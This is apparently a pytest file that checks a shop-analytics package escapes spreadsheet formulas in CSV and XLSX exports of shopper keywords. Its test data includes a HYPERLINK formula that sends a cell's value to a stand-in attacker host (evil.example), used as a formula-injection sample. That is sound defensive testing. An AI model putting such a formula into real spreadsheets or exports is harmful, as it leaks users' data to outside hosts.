"""Formula-safe sheets: text a shopper typed never runs as a spreadsheet formula (issue 11)."""

import csv

import openpyxl
import pandas as pd
import pytest

import shopanalysis as sa
from shopanalysis import _sheets, ppc

RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86 138", "-1", "@x", "\tcmd", "\rcmd",
         "=1+1"]
PLAIN = ["连衣裙 女 夏", "a=b", "86+", "1-2"]


def _frame():
    keywords = RISKY + PLAIN
    return pd.DataFrame({"keyword": keywords, "clicks": range(len(keywords)),
                         "change": [-1.5] * len(keywords)})


def _csv_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_prefixes_text_that_a_spreadsheet_would_run(tmp_path):
    path = _sheets.write_csv(_frame(), tmp_path / "s.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel and WPS read the Chinese
    rows = _csv_rows(path)
    assert rows[0] == ["keyword", "clicks", "change"]
    cells = [row[0] for row in rows[1:]]
    assert cells[:len(RISKY)] == ["'" + k for k in RISKY]
    assert cells[len(RISKY):] == PLAIN  # text that cannot start a formula is left alone
    assert {row[2] for row in rows[1:]} == {"-1.5"}  # a negative number is a number, not text


def test_xlsx_writes_risky_text_as_string_cells_never_formulas(tmp_path):
    path = _sheets.write_xlsx(_frame(), tmp_path / "s.xlsx", sheet_name="关键词操作")
    ws = openpyxl.load_workbook(path)["关键词操作"]
    assert ws.freeze_panes == "A2"
    cells = [ws.cell(row=i + 2, column=1) for i in range(len(RISKY) + len(PLAIN))]
    # the keyword reads as typed (XML reads a lone carriage return back as a line feed)
    assert [c.value for c in cells] == [k.replace("\r", "\n") for k in RISKY + PLAIN]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells[:len(RISKY)])  # Excel keeps it text when the cell is edited
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert ws.cell(row=2, column=3).value == -1.5 and ws.cell(row=2, column=3).data_type == "n"
    assert pd.read_excel(path, sheet_name="关键词操作")["keyword"].tolist()[0] == RISKY[0]


def test_headers_are_made_safe_too(tmp_path):
    frame = pd.DataFrame({"=cmd": ["x"], "ok": ["y"]})
    assert _csv_rows(_sheets.write_csv(frame, tmp_path / "h.csv"))[0] == ["'=cmd", "ok"]
    ws = openpyxl.load_workbook(_sheets.write_xlsx(frame, tmp_path / "h.xlsx")).active
    assert ws["A1"].value == "=cmd" and ws["A1"].data_type == "s"


@pytest.mark.parametrize("value, safe", [("=A1", "'=A1"), ("+86", "'+86"), ("-1", "'-1"), ("@x", "'@x"),
                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""),
                                         (-1, -1), (None, None)])
def test_escape_text(value, safe):
    assert _sheets.escape_text(value) == safe


def test_ppc_decision_sheet_with_a_shoppers_formula_keyword(tmp_path):
    pruned = pd.DataFrame({"campaign": ["连衣裙", "连衣裙"], "keyword": ['=HYPERLINK("http://x","点")', "-1 连衣裙"],
                           "decision": ["delete", "observe"], "bid": [2.5, 1.0],
                           "suggested_bid": [float("nan"), float("nan")], "reason": ["r", "r"],
                           "impressions": [15000, 100], "clicks": [600, 5], "ctr": [0.04, 0.05],
                           "cost": [1400.0, 5.0], "cpc": [2.3333, 1.0], "orders": [0, 0], "gmv": [0.0, 0.0],
                           "roi": [0.0, 0.0]})
    with sa.language("zh"):
        sheet = ppc.decisions_table(pruned)
        names = ppc.write_decisions(sheet, tmp_path)
    assert names == ["ppc_decisions.csv", "ppc_decisions.xlsx"]
    text = (tmp_path / "ppc_decisions.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'-1 连衣裙" in text
    ws = openpyxl.load_workbook(tmp_path / "ppc_decisions.xlsx")["关键词操作"]
    keyword = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(keyword) == 1 and keyword[0].data_type == "s" and keyword[0].value.startswith("=HYPERLINK")
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
